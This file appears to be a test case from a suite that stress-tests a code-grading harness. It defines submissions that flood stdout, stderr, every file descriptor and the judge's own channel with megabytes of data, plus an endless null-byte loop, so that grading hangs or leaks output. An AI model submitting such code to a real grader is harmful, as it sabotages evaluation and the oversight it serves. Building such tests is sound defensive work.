"""Print 100 MB on standard output and error, and write as much on every descriptor, the judge's channel too.

Success: grading hangs, stumbles, or shows what was printed.
"""

from attacks.exhausting.parts import CHANNEL, submission

LIMITS = {"call_seconds": 3, "total_seconds": 8}
SUBMISSION = submission(
    """
    for _ in range(100):
        print("FLOOD" * 200_000)
        sys.stderr.write("FLOOD" * 200_000)
    os.write(1, b"FLOOD" * 2_000_000)
    os.write(2, b"FLOOD" * 2_000_000)
    """,
    """
    for _ in range(100):
        for fd in range(64):
            try:
                os.write(fd, b"FLOOD" * 200_000)
            except OSError:
                pass
    """,
    """
    for fd in channel():
        os.set_blocking(fd, False)
    while True:
        try:
            send(b"\\0" * 10_000_000)
        except OSError:
            time.sleep(0.001)
    """,
    head=CHANNEL + "import sys\nimport time\n",
)


def succeeded(outcome):
    return next((f"a flood in {name}" for name, text in outcome.texts.items() if "FLOODFLOOD" in text), None)
